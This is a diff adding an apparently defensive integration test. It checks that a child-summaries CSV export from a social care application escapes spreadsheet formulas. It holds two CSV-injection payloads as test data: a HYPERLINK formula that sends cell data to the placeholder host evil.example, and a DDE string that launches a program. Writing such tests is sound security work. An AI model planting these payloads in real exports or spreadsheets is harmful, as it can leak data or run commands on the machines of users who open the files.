@@ -1,0 +1,53 @@
+import { apiClient, type ApiClient } from '../support/http-client';
+import { newChild } from '../support/journey-setup';
+import { startTestApp, type TestApp } from '../support/test-app';
+import { tokenFor } from '../support/tokens';
+
+const TEAM = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
+const WORKER = '+cmd|calc!A1';
+
+/** The CSV line of one child, once the read models have caught up with its allocation (bounded wait). */
+async function csvLineOf(
+  api: ApiClient,
+  childId: string,
+  role: 'reporting_job' | 'auditor',
+): Promise<string> {
+  for (let attempt = 0; attempt < 100; attempt++) {
+    const csv = await api.get<string>('/exports/read-models/child-summaries?format=csv', {
+      token: tokenFor(role),
+    });
+    expect(csv.status).toBe(200);
+    const line = csv.body.split('\n').find((l) => l.startsWith(`${childId},`));
+    if (line?.includes('cmd|calc')) return line;
+    await new Promise((resolve) => setTimeout(resolve, 50));
+  }
+  throw new Error('the read model never showed the allocation');
+}
+
+describe('CSV injection: recorded text never reaches a spreadsheet as a formula', () => {
+  let t: TestApp;
+  let api: ApiClient;
+  let childId: string;
+  beforeAll(async () => {
+    t = await startTestApp();
+    api = apiClient(t.baseUrl);
+    childId = await newChild(api);
+    const allocated = await api.post(
+      `/children/${childId}/allocation`,
+      { effectiveDate: '2026-11-01', team: TEAM, socialWorker: WORKER },
+      { token: tokenFor('social_worker', 'alice') },
+    );
+    expect(allocated.status).toBe(201);
+  }, 30_000);
+  afterAll(() => t.close());
+
+  it.each(['reporting_job', 'auditor'] as const)(
+    'GET /exports/read-models/child-summaries?format=csv as %s quotes the team and social worker',
+    async (role) => {
+      const line = await csvLineOf(api, childId, role);
+      expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
+      expect(line).toContain(`,'+cmd|calc!A1,`);
+      expect(line).not.toMatch(/,"?[=+]/);
+    },
+  );
+});
